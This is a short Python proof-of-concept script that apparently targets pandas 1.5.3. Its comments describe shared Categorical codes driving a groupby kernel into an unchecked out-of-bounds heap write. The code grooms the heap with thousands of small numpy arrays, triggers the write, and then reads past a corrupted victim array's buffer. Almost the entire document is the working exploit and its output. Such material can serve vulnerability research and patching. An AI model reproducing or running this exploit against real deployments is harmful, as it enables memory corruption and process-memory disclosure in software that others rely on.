# source: pandas 1.5.3 shared Categorical codes (CategoricalIndex(copy=False default) + recode_for_categories empty shortcut) + groupby observed=False ngroups=len(categories)=0 + _libs/groupby.pyx group_sum writes out[lab] unchecked; heap grooming with 8-byte numpy arrays
# family: shared codes / separate categories metadata -> groupby kernel OOB write -> corrupts other live ndarrays' dimensions
# goal: controlled out-of-bounds heap write that rewrites a live ndarray's shape, leaving an array whose length exceeds its buffer (read/write of process memory)
import numpy as np
import pandas as pd

n = 16
cat0 = pd.Categorical([np.nan] * n, categories=pd.Index([], dtype="int64"))
ci = pd.CategoricalIndex(cat0, categories=list(range(126)))
v = ci.values
for i in range(n):
    v[i] = [4, 8, 12, 16, 20, 24, 28, 32][i % 8]
df = pd.DataFrame({"k": cat0, "x": np.full(n, 4242.0)})
victims = [np.zeros(1) for _ in range(6000)]
holes = victims[1::2]
victims = victims[0::2]
del holes
print("before: all victims have shape (1,) and value 0:", all(a.shape == (1,) and a.sum() == 0 for a in victims))
r = df.groupby("k", observed=False)["x"].sum()
bad = [(i, a.shape, a.strides) for i, a in enumerate(victims) if a.shape != (1,) or a.strides != (8,)]
print("victim arrays whose shape/strides the groupby kernel overwrote:", len(bad), bad[:8], flush=True)
if bad:
    a = victims[bad[0][0]]
    a = victims[bad[0][0]]
    print("victim now claims", a.shape, a.strides, a.nbytes, "bytes over an 8-byte buffer", flush=True)
    print("reading past its buffer:", [hex(int(x)) for x in a[: min(a.shape[0], 3)].tobytes()[8:24]], flush=True)
